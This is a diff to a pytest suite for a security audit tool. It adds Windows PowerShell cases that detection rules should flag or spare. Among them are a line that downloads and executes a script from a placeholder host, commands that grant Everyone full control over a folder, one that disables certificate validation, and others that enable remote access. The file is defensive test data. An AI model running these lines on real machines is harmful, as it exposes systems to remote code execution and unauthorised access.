@@ -5,8 +5,11 @@ from __future__ import annotations
 import pytest
 
 from reconstruct.audit.registry import rules
-from tests.audit.cases import FIRES, SPARES
+from tests.audit import cases, spellings
 from tests.audit.images import config, entry, of_lines, run
+
+FIRES = [*cases.FIRES, *spellings.FIRES]
+SPARES = [*cases.SPARES, *spellings.SPARES]
 
 
 @pytest.mark.parametrize(("rule", "lines", "at"), FIRES, ids=[f"{rule}-{n}" for n, (rule, _, _) in enumerate(FIRES)])
@@ -40,8 +43,17 @@ WINDOWS = [
     ("SRC006", "[System.Net.ServicePointManager]::ServerCertificateValidationCallback = {$true} ; make"),
     ("SRC005", "choco install git --allow-empty-checksums"),
     ("USR005", "icacls C:\\app /grant 'Everyone:(OI)(CI)F'"),
+    (
+        "USR005",
+        "$r = New-Object System.Security.AccessControl.FileSystemAccessRule('Everyone','FullControl','Allow'); Set-Acl C:\\a $r",
+    ),
+    ("SRC001", "& ([scriptblock]::Create((irm https://x.example.org/c.ps1))) -Version 1"),
+    ("USR008", "Add-WindowsCapability -Online -Name OpenSSH.Server~~~~0.0.1.0"),
+    ("USR008", "Enable-PSRemoting -Force"),
 ]
 WINDOWS_SPARES = [
+    ("SRC001", "irm https://x.example.org/v.json | Select-Object version; [scriptblock]::Create('1+1')"),
+    ("USR008", "Add-WindowsCapability -Online -Name OpenSSH.Client~~~~0.0.1.0"),
     (
         "SRC002",
         "Invoke-WebRequest https://x.example.org/y.exe -OutFile y.exe; "
